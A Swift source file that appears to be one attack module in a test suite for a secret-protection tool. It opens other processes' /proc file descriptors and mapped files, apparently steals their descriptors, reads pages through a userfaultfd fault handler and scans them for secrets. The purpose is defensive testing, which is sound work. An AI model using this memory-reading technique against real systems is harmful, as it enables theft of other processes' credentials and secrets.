internal import CRedoubtAttacks
internal import Glibc

/// Maps stolen memory through a fault handler of the attacker's own: `userfaultfd`.
struct FaultHandling: Attack {
    let name = "userfaultfd"
    let aim = Aim.reading
    let attackers = [Attacker.hostUser, .root]

    func run(on target: Target, for secret: SecretScanner) async -> Finding {
        var search = MemorySearch(secret)
        for process in target.all {
            var files = ProcessFiles.descriptors(of: process).flatMap { number in
                [
                    unsafe open("/proc/\(process)/fd/\(number)", O_RDWR | O_CLOEXEC | O_NONBLOCK),
                    redoubt_attacks_steal_descriptor(process, number),
                ]
            }
            files += MappedFiles.paths(of: process).map { unsafe open($0, O_RDWR | O_CLOEXEC) }
            for file in files {
                guard file >= 0 else {
                    search.fail(EACCES)
                    continue
                }
                defer { close(file) }
                var page = [UInt8](repeating: 0, count: 4096)
                let count = unsafe redoubt_attacks_read_by_fault(file, &page, page.count)
                if count == -Int(ENOSYS) { return .impossible("the kernel gives no userfaultfd") }
                if count > 0 { search.examine(Array(page.prefix(count)), "by a fault handler") }
            }
        }
        return search.finding
    }
}
